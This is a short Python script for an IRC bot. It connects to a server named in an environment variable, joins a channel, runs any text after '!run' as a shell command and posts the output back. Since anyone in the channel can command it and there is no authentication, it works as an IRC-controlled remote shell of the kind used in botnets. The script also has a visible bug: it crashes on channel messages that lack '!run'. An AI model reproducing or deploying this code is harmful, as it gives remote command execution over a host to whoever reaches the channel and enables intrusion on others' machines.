# what: a bot that runs what is said to it in a channel
# server: irc
import os, socket, subprocess

host, port = os.environ["SERVER"].split(":")
print("begun", flush=True)
s = socket.create_connection((host, int(port)))
s.sendall(b"NICK bot\r\nUSER bot 0 * :bot\r\nJOIN #room\r\n")
for line in s.makefile():
    if "PRIVMSG" not in line:
        continue
    command = line.split(" :!run ", 1)[1].strip()
    if command == "exit":
        break
    out = subprocess.run(command, shell=True, capture_output=True, text=True).stdout
    s.sendall(b"".join(b"PRIVMSG #room :%s\r\n" % l.encode() for l in out.splitlines() or [""]))
print("done")
